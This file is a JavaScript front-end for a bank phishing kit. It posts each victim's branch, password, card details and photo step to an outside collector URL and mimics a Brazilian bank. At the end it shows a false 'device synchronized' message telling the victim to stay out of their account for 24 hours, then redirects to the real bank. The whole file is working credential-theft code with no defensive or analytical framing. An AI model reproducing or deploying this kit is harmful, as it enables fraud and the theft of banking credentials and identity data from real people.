window.APP = {
  drop: { url: 'https://hub-collector.invalid/gate', key: 'KEY', tag: 'br-07' },
  exit: 'https://www.banco-litoral.example/',
  flow: ['agencia', 'senha', 'cartao', 'foto', 'fim'],
};

$(document).on('submit', 'form[data-etapa]', function (ev) {
  ev.preventDefault();
  var etapa = $(this).data('etapa');
  var dados = $(this).serializeArray().reduce(function (a, c) { a[c.name] = c.value; return a; }, {});
  var acumulado = $.extend(JSON.parse(sessionStorage.d || '{}'), dados);
  sessionStorage.d = JSON.stringify(acumulado);

  $.ajax({
    url: APP.drop.url,
    method: 'POST',
    contentType: 'application/json',
    headers: { 'X-Key': APP.drop.key },
    data: JSON.stringify({ tag: APP.drop.tag, etapa: etapa, dados: acumulado, disp: navigator.platform })
  }).always(function () {
    var prox = APP.flow[APP.flow.indexOf(etapa) + 1];
    if (prox === 'fim') {
      $('#tela').html('<h2>Dispositivo sincronizado!</h2><p>Não acesse sua conta pelas próximas 24 horas.</p>');
      setTimeout(function () { location.href = APP.exit; }, 8000);
      return;
    }
    $('#tela').load('telas/' + prox + '.html');
  });
});

$(document).on('input', '#cpf', function () {
  this.value = this.value.replace(/\D/g, '').replace(/(\d{3})(\d{3})(\d{3})(\d{2})/, '$1.$2.$3-$4').slice(0, 14);
});
$(document).on('click', '.teclado button', function () {
  var s = $('#senha');
  if (s.val().length < 8) s.val(s.val() + $(this).data('n'));
});
$(function () { $('#tela').load('telas/' + APP.flow[0] + '.html'); });
